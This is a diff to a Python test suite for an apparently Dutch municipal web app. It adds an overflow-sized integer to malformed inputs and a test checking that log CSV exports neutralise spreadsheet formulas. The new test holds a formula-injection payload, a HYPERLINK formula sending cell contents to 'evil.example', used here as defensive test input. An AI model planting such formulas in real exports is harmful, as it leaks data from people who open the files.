@@ -278,7 +278,10 @@ def data_views(demo_db) -> dict[str, str]:
 #: Other gemeenten' codes in every shape a control could send, and values no control sends:
 #: nested lists, a dict, a 60 kB string (ten of them stay under the body limit), a number where a date or code is expected, a bool.
 FORGED_CODES = (OTHER, [OTHER], {"gemeente": OTHER}, [OTHER, "GMD003", "GMD004"])
-MALFORMED = ([["GMD001"]], {"a": {"b": [1]}}, "x" * 60_000, 20240101, True, [None, {}])
+#: ... and 10 ** 25, more than SQLite's INTEGER holds (token, concept and product ids gave an
+#: OverflowError: a 500).
+MALFORMED = ([["GMD001"]], {"a": {"b": [1]}}, "x" * 60_000, 20240101, True, [None, {}],
+             10 ** 25)
 
 
 def _forge_everything(server, user: str, values) -> list[tuple[dict, object, requests.Response]]:
@@ -446,6 +449,31 @@ def test_every_data_callback_and_download_logs_exactly_one_row(demo_server, demo
         assert response.status_code == 200 and response.text.startswith("\ufeffNr.;Tijd;Gebruiker")
         assert state_rows(demo_db)[0][0] == before + 1
         assert state_rows(demo_db, "SELECT view FROM protocol_log ORDER BY id DESC LIMIT 1")[0][0] == view
+
+
+def test_the_log_downloads_hold_no_formula_from_what_users_typed(demo_server, demo_db):
+    """An API client chooses the name of a parameter it sends; the refusal is logged with it,
+    and the beheerder opens the log's CSV in a spreadsheet: no cell may start a formula (as
+    in every export)."""
+    import csv
+    import io
+
+    csv.field_size_limit(1 << 24)  # other tests log forged values of 60 kB
+
+    name = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")'
+    state = StateDB(demo_db.parent / "appstate.sqlite")
+    token = create_token(state, "analist", label="csv", by="analist")[1]
+    answer = requests.get(demo_server.url + "/api/v1/incidents", params={name: "1", "@x": "2"},
+                          headers={"Authorization": f"Bearer {token}"}, timeout=30)
+    assert answer.status_code == 400
+    for user, path in [("beheerder", "/beheer/protocol.csv"), ("analist", "/mijn-log.csv")]:
+        response = http_login(demo_server, user).get(demo_server.url + path)
+        assert response.status_code == 200
+        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+        cells = [c for row in csv.reader(io.StringIO(response.text.lstrip("\ufeff")),
+                                         delimiter=";") for c in row]
+        assert any("hyperlink" in c.lower() for c in cells), (user, "the row is there")
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], user
 
 
 def test_refused_request_is_logged_with_a_dutch_message(demo_server, demo_db):
